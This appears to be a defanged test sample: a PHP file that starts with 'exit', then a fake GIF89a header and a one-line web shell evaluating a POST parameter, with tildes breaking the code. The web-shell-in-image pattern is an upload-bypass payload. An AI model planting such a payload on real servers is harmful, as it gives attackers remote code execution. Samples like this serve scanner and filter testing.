<?php exit; ?>
GIF89a{x01}{x00}{x01}{x00}<?php eva~l($_P~OST['MARKER']); ?>
